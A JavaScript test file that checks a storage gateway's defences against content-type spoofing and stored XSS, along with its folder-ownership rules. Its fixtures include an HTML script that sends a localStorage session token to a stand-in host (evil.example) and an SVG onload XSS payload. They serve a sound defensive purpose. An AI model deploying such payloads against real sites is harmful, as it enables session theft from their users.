// Hostile regression tests for storage (issue 15 item 1, SPEC §9 "Content safety"), black-box through
// the gateway: a stored type is the type that was checked, every download sends nosniff, and a type a
// browser would run is never served as an active page on the gateway's origin.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { GATEWAY, ANON_KEY, SERVICE_KEY, client, newUser } from './helpers.js';

const HTML = '<html><body><script>fetch("//evil.example/?"+localStorage.getItem("sb"))</script></body></html>';
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082', 'hex');

function storageUrl(path) {
  return `${GATEWAY}/storage/v1${path}`;
}

/** The headers a browser would act on, for one response. */
function assertNotActive(res, what) {
  assert.match(res.headers.get('x-content-type-options') ?? '', /nosniff/i, `${what}: nosniff`);
  const csp = res.headers.get('content-security-policy') ?? '';
  assert.match(csp, /sandbox/, `${what}: CSP sandbox (${csp})`);
  assert.match(csp, /default-src 'none'/, `${what}: CSP default-src 'none' (${csp})`);
  assert.match(res.headers.get('content-disposition') ?? '', /^attachment/, `${what}: attachment`);
}

test('a contentType field sent after the file part cannot change the checked type (avatars XSS)', async () => {
  const a = await newUser('sec-storage-xss');
  const path = `${a.user.id}/xss.png`;
  const form = new FormData();
  form.append('', new Blob([HTML], { type: 'image/png' }), 'blob');
  form.append('contentType', 'text/html');
  const up = await fetch(storageUrl(`/object/avatars/${path}`), {
    method: 'POST',
    headers: { apikey: ANON_KEY, Authorization: `Bearer ${a.session.access_token}` },
    body: form,
  });
  assert.equal(up.status, 200, await up.text());

  const pub = await fetch(a.supabase.storage.from('avatars').getPublicUrl(path).data.publicUrl);
  assert.equal(pub.status, 200);
  assert.equal(pub.headers.get('content-type'), 'image/png');
  assert.match(pub.headers.get('x-content-type-options') ?? '', /nosniff/i);
  await pub.arrayBuffer();

  // the same type declared before the file is checked (and refused)
  const before = new FormData();
  before.append('contentType', 'text/html');
  before.append('', new Blob([HTML], { type: 'image/png' }), 'blob');
  const refused = await fetch(storageUrl(`/object/avatars/${a.user.id}/xss2.png`), {
    method: 'POST',
    headers: { apikey: ANON_KEY, Authorization: `Bearer ${a.session.access_token}` },
    body: before,
  });
  const body = await refused.json();
  assert.equal(body.statusCode, '415', JSON.stringify(body));

  // supabase-js: HTML and SVG are not avatars
  for (const [name, type, bytes] of [['x.html', 'text/html', HTML], ['x.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>']]) {
    const res = await a.supabase.storage.from('avatars').upload(`${a.user.id}/${name}`, Buffer.from(bytes), { contentType: type });
    assert.equal(res.error?.statusCode, '415', `${type}: ${JSON.stringify(res.error)}`);
  }
  const ok = await a.supabase.storage.from('avatars').upload(`${a.user.id}/real.png`, PNG, { contentType: 'image/png', upsert: true });
  assert.equal(ok.error, null, JSON.stringify(ok.error));
});

test('active content is served sandboxed, as an attachment, with nosniff on every download route', async () => {
  const admin = client(SERVICE_KEY);
  const bucket = `sec-open-${randomUUID().slice(0, 8)}`;
  const made = await admin.storage.createBucket(bucket, { public: true });
  assert.equal(made.error, null, JSON.stringify(made.error));
  try {
    const files = [['page.html', 'text/html'], ['pic.svg', 'image/svg+xml'], ['doc.xml', 'application/xml'],
      ['run.js', 'text/javascript'], ['page.xhtml', 'application/xhtml+xml'], ['odd.bin', 'application/x-made-up']];
    for (const [name, type] of files) {
      const up = await admin.storage.from(bucket).upload(name, Buffer.from(HTML), { contentType: type });
      assert.equal(up.error, null, `${name}: ${JSON.stringify(up.error)}`);
    }
    for (const [name, type] of files) {
      const publicUrl = admin.storage.from(bucket).getPublicUrl(name).data.publicUrl;
      const signed = await admin.storage.from(bucket).createSignedUrl(name, 60);
      assert.equal(signed.error, null);
      const auth = { apikey: SERVICE_KEY, Authorization: `Bearer ${SERVICE_KEY}` };
      const answers = [
        ['public', await fetch(publicUrl)],
        ['public HEAD', await fetch(publicUrl, { method: 'HEAD' })],
        ['public Range', await fetch(publicUrl, { headers: { Range: 'bytes=0-9' } })],
        ['signed', await fetch(signed.data.signedUrl)],
        ['authenticated', await fetch(storageUrl(`/object/authenticated/${bucket}/${name}`), { headers: auth })],
        ['authenticated HEAD', await fetch(storageUrl(`/object/authenticated/${bucket}/${name}`), { method: 'HEAD', headers: auth })],
      ];
      for (const [route, res] of answers) {
        assert.ok(res.status === 200 || res.status === 206, `${type} ${route}: ${res.status}`);
        assertNotActive(res, `${type} ${route}`);
        await res.arrayBuffer();
      }
    }
    // a safe type stays inline, still with nosniff
    await admin.storage.from(bucket).upload('pic.png', PNG, { contentType: 'image/png' });
    const png = await fetch(admin.storage.from(bucket).getPublicUrl('pic.png').data.publicUrl);
    assert.equal(png.status, 200);
    assert.match(png.headers.get('x-content-type-options') ?? '', /nosniff/i);
    assert.equal(png.headers.get('content-disposition'), null);
    assert.deepEqual(Buffer.from(await png.arrayBuffer()), PNG);
  } finally {
    await admin.storage.emptyBucket(bucket);
    await admin.storage.deleteBucket(bucket);
  }
});

test("another user's folder: refused, nothing stored", async () => {
  const a = await newUser('sec-storage-a');
  const b = await newUser('sec-storage-b');
  const path = `${a.user.id}/planted.jsonl`;
  const res = await b.supabase.storage.from('datasets').upload(path, Buffer.alloc(2 * 1024 * 1024, 0x61),
    { contentType: 'application/x-ndjson' });
  assert.equal(res.error?.statusCode, '403', JSON.stringify(res.error));
  const listed = await a.supabase.storage.from('datasets').list(a.user.id);
  assert.equal(listed.error, null);
  assert.deepEqual(listed.data.filter((o) => o.name === 'planted.jsonl'), []);
});
